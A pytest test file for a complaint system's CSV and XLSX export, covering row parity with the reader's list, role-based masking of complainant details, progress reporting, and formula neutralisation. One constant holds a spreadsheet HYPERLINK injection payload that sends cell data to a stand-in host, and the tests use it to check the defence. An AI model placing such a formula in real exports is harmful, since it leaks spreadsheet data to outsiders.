"""Exporting the complaint list: exactly the rows the reader's list shows, masked as that
reader sees them, formulas harmless, progress reported; CSV and XLSX."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pytest

from db.models import Role
from db.timeutil import utcnow
from services.complaints import export, queries, workflow
from services.complaints.queries import Filters
from tests.factories import make_complaint, make_unit
from tests.service import test_complaints

# The same small city as the complaint service tests: 雄关区 (the power station in its town
# 峪泉镇) and 镜铁区 (the school), an inspector scoped to 镜铁区, the power station's liaison.
city = test_complaints.city
NAME, PHONE, ADDRESS = test_complaints.NAME, test_complaints.PHONE, test_complaints.ADDRESS
ALL = Filters()
HOSTILE = '=HYPERLINK("http://evil.invalid/?"&A1,"点此")'

LABELS = export.Labels(
    headers={c: f"H:{c}" for c in export.COLUMNS},
    channels={"phone": "来电", "letter": "来信"},
    statuses={"received": "已登记", "assigned": "已交办"},
    satisfactions={},
    yes="是", no="否", anonymous="匿名",
)


def _assign(uow, city, complaint, unit):
    return uow.run(workflow.assign, actor=city.office, complaint_id=complaint.id,
                   version=complaint.version, unit_id=unit.id)


@pytest.fixture
def complaints(uow, city):
    """Seven complaints: four sent to the power station (one with a formula typed as its
    content, one anonymous), two sent to the school, one not sent anywhere yet. Two share
    a received time, so the keyset's tie-break is exercised."""
    same = utcnow() - timedelta(hours=5)
    made = []
    for i, (unit, kw) in enumerate([
        (city.power, dict(content=HOSTILE)),
        (city.power, dict(received_at=same)),
        (city.power, dict(received_at=same, channel="letter")),
        (city.power, dict(anonymous=True, name="", phone="", address="")),
        (city.school, dict()),
        (city.school, dict(received_at=utcnow() - timedelta(days=20))),
        (None, dict()),
    ]):
        kw.setdefault("received_at", utcnow() - timedelta(hours=10 + i))
        c = make_complaint(uow, office=city.office, **kw)
        made.append(_assign(uow, city, c, unit) if unit else c)
    return made


def _reader(city, role):
    return {"office": city.office, "admin": city.admin, "leader": city.leader,
            "inspector": city.inspector, "liaison": city.liaison}[role]


def _csv(uow, actor, filters=ALL, **kw) -> list[dict[str, str]]:
    out = io.BytesIO()
    uow.query(export.export_csv, out, actor=actor, filters=filters, labels=LABELS, **kw)
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _listed_ids(uow, actor, filters=ALL) -> list[int]:
    return [r.id for r in uow.query(queries.list_complaints, actor=actor, filters=filters,
                                    limit=500)]


@pytest.mark.parametrize(("role", "masked"), [
    ("leader", True), ("inspector", True), ("liaison", True),
    ("office", False), ("admin", False),
])
def test_every_role_gets_the_identity_as_it_may_see_it(uow, city, complaints, role, masked):
    rows = _csv(uow, _reader(city, role))
    named = [r for r in rows if r["H:complainant_name"] != "匿名"]
    assert named  # every reader sees at least one complainant with a name
    for r in named:
        # A masked address shows only the complaint's own place (its district column).
        place = f"{r['H:district']}***"
        expected = ("张*", "138****1234", place) if masked else (NAME, PHONE, ADDRESS)
        assert (r["H:complainant_name"], r["H:complainant_phone"],
                r["H:complainant_address"]) == expected
    text = "\n".join(",".join(r.values()) for r in rows)
    assert (PHONE in text) is (not masked)
    assert ("新华路" in text) is (not masked)


@pytest.mark.parametrize("role", ["office", "leader", "inspector", "liaison"])
@pytest.mark.parametrize("filters", [
    Filters(), Filters(channel="letter"), Filters(unit_id=None, status="received"),
    Filters(received_from=(utcnow() - timedelta(days=2)).date()),
], ids=["all", "letter", "received", "recent"])
def test_the_export_holds_exactly_the_rows_of_the_list(uow, city, complaints, role, filters):
    actor = _reader(city, role)
    rows = _csv(uow, actor, filters, batch=2)  # several batches, one with a tie inside
    count = uow.query(queries.count_complaints, actor=actor, filters=filters)
    assert len(rows) == count
    assert [int(r["H:id"]) for r in rows] == _listed_ids(uow, actor, filters)


def test_a_district_filter_exports_that_district_only(uow, city, complaints):
    filters = Filters(district_id=city.xiongguan.id)
    rows = _csv(uow, city.office, filters)
    assert {r["H:unit"] for r in rows} == {"峪泉供电所"}
    assert len(rows) == 4


def test_the_liaison_exports_only_the_units_complaints(uow, city, complaints):
    rows = _csv(uow, city.liaison)
    assert len(rows) == 4
    assert {r["H:unit"] for r in rows} == {"峪泉供电所"}


def test_a_typed_formula_reaches_the_csv_as_text(uow, city, complaints):
    rows = _csv(uow, city.office)
    [hostile] = [r for r in rows if "HYPERLINK" in r["H:content"]]
    assert hostile["H:content"] == "'" + HOSTILE


def test_values_are_in_the_readers_words(uow, city, complaints):
    rows = _csv(uow, city.office, Filters(channel="letter"))
    assert [(r["H:channel"], r["H:status"], r["H:overdue"]) for r in rows] == [
        ("来信", "已交办", "否")]
    anonymous = [r for r in _csv(uow, city.office) if r["H:complainant_name"] == "匿名"]
    assert len(anonymous) == 1


def test_progress_is_reported_batch_by_batch(uow, city, complaints):
    calls = []
    _csv(uow, city.office, batch=3, progress=lambda done, total: calls.append((done, total)))
    assert calls == [(0, 7), (3, 7), (6, 7), (7, 7)]


def test_the_xlsx_opens_with_the_same_rows_and_keeps_formulas_as_text(uow, city, complaints,
                                                                        tmp_path):
    path = tmp_path / "complaints.xlsx"
    calls = []
    with path.open("wb") as out:
        written = uow.query(export.export_xlsx, out, actor=city.leader, labels=LABELS,
                            batch=2, progress=lambda d, t: calls.append((d, t)))
    sheet = openpyxl.load_workbook(path, read_only=True).worksheets[0]
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert list(header) == [f"H:{c}" for c in export.COLUMNS]
    assert written == len(rows) == 7
    assert [r[0] for r in rows] == _listed_ids(uow, city.leader)
    column = {c: i for i, c in enumerate(export.COLUMNS)}
    assert {r[column["complainant_phone"]] for r in rows} == {"138****1234", ""}
    cells = [c for row in openpyxl.load_workbook(path).worksheets[0].iter_rows(min_row=2)
             for c in row if c.value == HOSTILE]
    assert len(cells) == 1 and cells[0].data_type == "s"  # a string, not a formula
    assert calls[-1] == (7, 7)


def test_an_empty_export_still_has_its_header(uow, city, tmp_path):
    path = tmp_path / "none.xlsx"
    assert uow.query(export.export_xlsx, str(path), actor=city.office, labels=LABELS) == 0
    rows = list(openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True))
    assert rows == [tuple(f"H:{c}" for c in export.COLUMNS)]
    assert _csv(uow, city.office) == []


def test_a_liaison_of_a_unit_without_complaints_exports_nothing(uow, city, complaints,
                                                                  make_user):
    quiet = make_unit(uow, actor=city.admin, name="市档案馆")
    calls = []
    rows = _csv(uow, make_user("archive", Role.UNIT, unit_id=quiet.id),
                progress=lambda d, t: calls.append((d, t)))
    assert rows == [] and calls == [(0, 0)]
